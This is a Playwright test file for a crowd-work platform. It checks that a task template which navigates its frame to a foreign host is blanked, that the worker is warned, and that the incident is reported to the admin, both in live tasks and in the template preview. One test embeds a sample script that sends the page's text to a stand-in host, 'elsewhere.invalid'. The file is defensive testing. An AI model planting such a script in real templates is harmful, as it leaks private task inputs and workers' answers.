// A template can navigate its own frame to another host (the sandbox cannot forbid it), which
// carries the task's input and the worker's answers away. The task page notices, blanks the
// frame, tells the worker, and reports it on the admin's loop page; the preview does the same.
import { expect, test, type BrowserContext } from "@playwright/test";
import { a2i, signInAsAdmin, signInAsWorker } from "./helpers";

/** Answers every request for the foreign host with a page of its own, and records them. */
async function foreignHost(context: BrowserContext): Promise<string[]> {
  const requests: string[] = [];
  await context.route("http://elsewhere.invalid/**", (route) => {
    requests.push(route.request().url());
    return route.fulfill({ contentType: "text/html", body: "<p>Collected, thank you.</p>" });
  });
  return requests;
}

test("a template that navigates its frame away is blanked, and the admin sees it on the loop page", async ({ browser, baseURL }, testInfo) => {
  a2i(baseURL!, "template-flow", "e2e-leaving", "leaving.liquid", "1", "600");
  a2i(baseURL!, "start-input", "e2e-leaving", "leak-1", JSON.stringify({ taskObject: "A private letter" }));
  const page = await signInAsWorker(browser, baseURL!);
  const requests = await foreignHost(page.context());
  await page.getByTestId("queue-e2e-leaving").getByRole("button", { name: "Start working" }).click();
  const frame = page.frameLocator("[data-testid=task-frame]");
  await expect(frame.getByText("A private letter")).toBeVisible({ timeout: 15_000 });

  await frame.locator("crowd-input input").fill("a secret");
  await frame.locator("crowd-input input").press("Tab");
  await expect(page.getByTestId("frame-left")).toBeVisible({ timeout: 15_000 });
  // The navigation did happen (nothing in the browser can stop it), but the page took the frame
  // back: it is blank, nothing can be submitted from it, and the task is still the worker's.
  expect(requests.some((url) => url.includes("typed=a%20secret"))).toBe(true);
  await expect(page.getByTestId("task-frame")).toHaveAttribute("src", "about:blank");
  await expect(frame.getByText("Collected")).toHaveCount(0);
  await expect(page.getByTestId("submit")).toBeDisabled();
  await expect(page.getByTestId("release")).toBeEnabled();
  await page.screenshot({ path: testInfo.outputPath("frame-left.png"), fullPage: true });

  // The worker may bring the task back (what they typed is gone) and work on.
  await page.getByTestId("show-again").click();
  await expect(frame.getByText("A private letter")).toBeVisible();
  await expect(page.getByTestId("frame-left")).toHaveCount(0);
  await expect(page.getByTestId("submit")).toBeEnabled();
  await page.getByTestId("release").click();
  await expect(page).toHaveURL(/\/work$/);
  await page.context().close();

  const admin = await browser.newContext({ baseURL });
  const adminPage = await admin.newPage();
  await signInAsAdmin(adminPage);
  await adminPage.goto("/admin/loop/leak-1");
  const report = adminPage.getByTestId("frame-departures");
  await expect(report).toBeVisible();
  await expect(report).toContainText("The template left its frame");
  await expect(report.locator("tbody tr")).toHaveCount(1);
  await expect(report.locator("tbody tr td").nth(1)).toHaveText("worker@e2e.local");
  await expect(report.locator("tbody tr td").nth(2)).toHaveText("1");
  await adminPage.screenshot({ path: testInfo.outputPath("loop-frame-left.png"), fullPage: true });
  await admin.close();
});

test("the template preview blanks a template that navigates its frame away, and says why", async ({ page }) => {
  await signInAsAdmin(page);
  await foreignHost(page.context());
  await page.goto("/admin/templates/new");
  await expect(page.locator("html[data-hydrated]")).toHaveCount(1);
  const content = page.getByLabel("UiTemplate.Content");
  await content.fill('<crowd-form><p>{{ task.input.taskObject }}</p></crowd-form>\n<script>location = "http://elsewhere.invalid/?x=" + document.body.innerText</script>');
  await expect(page.getByTestId("preview-left")).toBeVisible({ timeout: 15_000 });
  await expect(page.getByTestId("preview-frame")).toHaveAttribute("src", "about:blank");
  // A template that stays put previews as usual, and the warning goes.
  await content.fill("<crowd-form><p>{{ task.input.taskObject }}</p></crowd-form>");
  await expect(page.getByTestId("preview-left")).toHaveCount(0);
  await expect(page.frameLocator('[data-testid="preview-frame"]').locator("body")).toContainText("Something to review");
});
